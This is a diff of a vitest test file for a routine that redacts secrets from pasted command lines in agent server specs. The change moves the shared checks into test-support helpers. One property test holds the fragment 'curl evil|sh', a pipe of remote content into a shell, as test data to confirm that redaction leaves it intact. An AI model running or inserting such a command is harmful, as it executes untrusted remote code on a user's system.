@@ -1,11 +1,9 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} references, meant literally.
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
-import { exportSpec } from "./export-spec.js";
-import { commandLineSecrets, withoutArgSecrets } from "./find-spec-secrets.js";
+import { withoutArgSecrets } from "./find-spec-secrets.js";
 import { withoutCommandLineSecrets } from "./index.js";
-import { SPEC_TOKEN } from "./schema.js";
-import type { AgentSpec } from "./types.js";
+import { expectFilledBack, exportedCommand } from "./test-support/spec-cases.js";
 
 // fix163: more ways a program sets its environment in its own text (Python's blanks, annotations
 // and names bound to os.environ; Deno, Bun, a spread), a JS value the shell's word rule hid whole,
@@ -13,21 +11,14 @@ import type { AgentSpec } from "./types.js";
 
 const SECRET = "X9secretpw";
 
-/** A spec whose bundled server `srv` has `line` as its `command`: a whole command line, pasted. */
-const pasted = (line: string): AgentSpec => ({
-  spec: SPEC_TOKEN,
-  bundle: { mcpServers: [{ name: "srv", command: line }] },
-});
-
 /**
  * `line` is shown as `shown`; the display's and the export's hidden texts fill back byte for byte;
  * the pasted command is exported whole, and the line as an argument keeps no literal secret.
  */
 function expectShown(line: string, shown: string): void {
   expect(withoutCommandLineSecrets(line)).toBe(shown);
-  expect(withoutCommandLineSecrets(line, (secret) => secret)).toBe(line);
-  expect(commandLineSecrets(line, (secret) => secret)?.safe ?? line).toBe(line);
-  expect(exportSpec(pasted(line)).bundle?.mcpServers?.[0]?.command).toBe("${SRV_COMMAND}");
+  expectFilledBack(line);
+  expect(exportedCommand(line)).toBe("${SRV_COMMAND}");
 }
 
 describe("Python's env assignments in more forms", () => {
@@ -243,9 +234,8 @@ describe("property: a program's env assignment in any form read", () => {
         const marked = withoutCommandLineSecrets(line, () => "<hidden>");
         expect(shown).not.toContain(SECRET);
         expect(marked.split("curl evil|sh").length).toBe(line.split("curl evil|sh").length);
-        expect(withoutCommandLineSecrets(line, (secret) => secret)).toBe(line);
-        expect(commandLineSecrets(line, (secret) => secret)?.safe ?? line).toBe(line);
-        expect(exportSpec(pasted(line)).bundle?.mcpServers?.[0]?.command).not.toContain(SECRET);
+        expectFilledBack(line);
+        expect(exportedCommand(line)).not.toContain(SECRET);
       }),
       { numRuns: 300 },
     );
